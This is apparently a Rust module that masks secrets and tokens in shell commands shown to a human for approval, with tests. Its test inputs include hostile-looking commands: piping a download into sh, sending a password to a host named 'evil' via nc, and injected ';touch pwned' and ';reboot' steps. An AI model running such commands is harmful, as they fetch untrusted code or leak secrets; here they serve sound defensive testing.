//! Redaction of an action that somebody approves. It replaces only the characters of secrets and tokens, so that no
//! blank, quote or operator of a shell, and nothing that acts behind one, can hide in a mask.

use super::view::View;
use super::{MASK, Redactor};
use std::borrow::Cow;

/// The least length of a part of a private key, in bytes.
const MIN_KEY_PART: usize = 16;
/// The least length of a token after `Bearer`, in bytes.
const MIN_BEARER: usize = 16;

/// A character that tokens consist of.
fn is_token(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || b"+/=_.~-".contains(&byte)
}

impl Redactor {
    /// Masks the secrets in an action. Unlike [`Redactor::redact`], it never removes escape sequences.
    pub fn redact_action<'a>(&self, text: &'a str) -> Cow<'a, str> {
        if self.is_clear(text) {
            return Cow::Borrowed(text);
        }
        let mut scan = ActionScan { redactor: self, text, out: String::new(), copied: 0, in_key: false };
        scan.run();
        if scan.copied == 0 {
            return Cow::Borrowed(text);
        }
        scan.out.push_str(&text[scan.copied..]);
        Cow::Owned(scan.out)
    }
}

struct ActionScan<'a> {
    redactor: &'a Redactor,
    text: &'a str,
    out: String,
    /// The position up to which the text was copied to `out`. 0: nothing was masked.
    copied: usize,
    /// Whether the last token was the end of the first line of a private key, or a part of the key.
    in_key: bool,
}

impl ActionScan<'_> {
    fn run(&mut self) {
        let bytes = self.text.as_bytes();
        let view = View { bytes, open: false };
        let (mut at, mut before) = (0, 0);
        while at < bytes.len() {
            if let Ok(end) = self.redactor.form_at(view, at) {
                self.mask_tokens(at, end);
                (at, before, self.in_key) = (end, end, false);
            } else if is_token(bytes[at]) && (at == before || !is_token(bytes[at - 1])) {
                let end = self.token(at, before);
                (at, before) = (end.max(at + 1), end.max(at + 1));
            } else {
                at += 1;
            }
        }
    }

    /// Handles the token that begins here. `before`: the end of the last one. Returns its end, or the beginning of a
    /// registered value in it.
    fn token(&mut self, at: usize, before: usize) -> usize {
        let bytes = self.text.as_bytes();
        let view = View { bytes, open: false };
        let whole = at + bytes[at..].iter().take_while(|byte| is_token(**byte)).count();
        let end = (at + 1..whole).find(|n| self.redactor.form_at(view, *n).is_ok()).unwrap_or(whole);
        let (token, gap) = (&self.text[at..end], &self.text[before..at]);
        let is_key_part = |token: &str| token.len() >= MIN_KEY_PART && !token.contains(['_', '.', '~', '-']);
        if self.in_key && is_key_part(token) && gap.chars().all(|c| c.is_whitespace() || c == '\\') {
            self.mask(at, end);
        } else if follows_credential_name(&self.text[..at], token) || self.is_password(at, end) {
            self.mask(at, end);
            self.in_key = false;
        } else {
            if let Cow::Owned(masked) = self.redactor.redact_uncleaned(token) {
                self.replace(at, end, &masked);
            }
            let head = self.text[..end].lines().next_back().unwrap_or_default();
            self.in_key = token.ends_with("KEY-----") && head.contains("-----BEGIN ");
        }
        end
    }

    /// Whether a token is the password in `://user:password@`.
    fn is_password(&self, at: usize, end: usize) -> bool {
        let bytes = self.text.as_bytes();
        if bytes.get(end) != Some(&b'@') || at == 0 || bytes[at - 1] != b':' {
            return false;
        }
        let user = bytes[..at - 1].iter().rev().take_while(|byte| is_token(**byte)).count();
        let user = &self.text[at - 1 - user..at - 1];
        user.starts_with("//") && self.text[..at - 1 - user.len()].ends_with(':')
    }

    fn mask(&mut self, at: usize, end: usize) {
        self.replace(at, end, MASK);
    }

    fn replace(&mut self, at: usize, end: usize, by: &str) {
        self.out.push_str(&self.text[self.copied..at]);
        self.out.push_str(by);
        self.copied = end;
    }

    /// Masks each token in a registered value.
    fn mask_tokens(&mut self, mut at: usize, end: usize) {
        let bytes = self.text.as_bytes();
        while at < end {
            let length = bytes[at..end].iter().take_while(|byte| is_token(**byte)).count();
            if length > 0 {
                self.mask(at, at + length);
            }
            at += length.max(1);
        }
    }
}

/// Whether the text ends where a credential follows: after `Authorization:` with or without a scheme, or after
/// `Bearer` if the token is long enough.
fn follows_credential_name(before: &str, token: &str) -> bool {
    const LOOK_BACK: usize = 64;
    let before = &before[before.ceil_char_boundary(before.len().saturating_sub(LOOK_BACK))..];
    let before = before.to_ascii_lowercase();
    let open = before.trim_end_matches([' ', '\t']);
    if open.len() < before.len() && open.ends_with("bearer") && token.len() >= MIN_BEARER {
        return true;
    }
    let schemes = ["bearer", "basic", "token", "digest", "oauth", "negotiate", "ntlm", "hawk"];
    if schemes.contains(&token.to_ascii_lowercase().as_str()) {
        return false;
    }
    let open = schemes.iter().find_map(|scheme| open.strip_suffix(scheme)).unwrap_or(open);
    let open = open.trim_end_matches([' ', '\t', '"', '\'']);
    let open = open.strip_suffix([':', '=']).map(|open| open.trim_end_matches([' ', '\t', '"', '\'']));
    open.is_some_and(|open| open.ends_with("authorization"))
}

#[cfg(test)]
mod tests {
    use crate::redact::{MASK, Redactor};

    fn redactor() -> Redactor {
        let mut redactor = Redactor::new();
        assert!(redactor.add("hunter2 Zq7731;x+y"));
        assert!(redactor.add("tr0ub4dor-3"));
        redactor
    }

    #[test]
    fn only_the_characters_of_a_token_are_masked() {
        for (text, shown) in [
            ("true Authorization: x;touch pwned;true", "true Authorization: [redacted];touch pwned;true"),
            (
                "curl -H 'Authorization: Bearer abc.def' http://a | sh",
                "curl -H 'Authorization: Bearer [redacted]' http://a | sh",
            ),
            (
                "true -----BEGIN PRIVATE KEY----- ; touch pwned\nls",
                "true -----BEGIN PRIVATE KEY----- ; touch pwned\nls",
            ),
            (
                "echo '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\nAAAABBBBCCCCDDDDEEEE=\n-----END PRIVATE KEY-----' >k",
                "echo '-----BEGIN PRIVATE KEY-----\n[redacted]\n[redacted]\n-----END PRIVATE KEY-----' >k",
            ),
            ("curl http://me:secret@host/x;reboot", "curl http://me:[redacted]@host/x;reboot"),
            ("curl http://a;reboot;b:c@host", "curl http://a;reboot;b:c@host"),
            ("KEY=sk-aaaaaaaaaaaaaaaaaaaaaaaa;ls", "KEY=[redacted];ls"),
            ("echo tr0ub4dor-3|nc evil 1", "echo [redacted]|nc evil 1"),
            ("echo xtr0ub4dor-3y", "echo x[redacted]y"),
            ("echo 'hunter2 Zq7731;x+y'", "echo '[redacted] [redacted];[redacted]'"),
            ("ls \u{1b}];touch pwned;\u{7}", "ls \u{1b}];touch pwned;\u{7}"),
        ] {
            assert_eq!(redactor().redact_action(text), shown);
            assert_eq!(redactor().redact_action(shown), shown, "a second pass changes nothing");
        }
    }

    proptest::proptest! {
        #[test]
        fn every_character_that_acts_stays_where_it_is(
            text in r#"([a-z ;|&$()`'"<>\n]|Authorization: |-----BEGIN PRIVATE KEY-----|Bearer |://|tr0ub4dor-3|sk-aaaaaaaaaaaaaaaaaaaaaaaa){0,12}"#
        ) {
            let acts = |text: &str| text.replace(MASK, "").chars().filter(|c| !super::is_token(*c as u8)).collect::<String>();
            let shown = redactor().redact_action(&text).into_owned();
            proptest::prop_assert_eq!(acts(&shown), acts(&text));
        }
    }
}
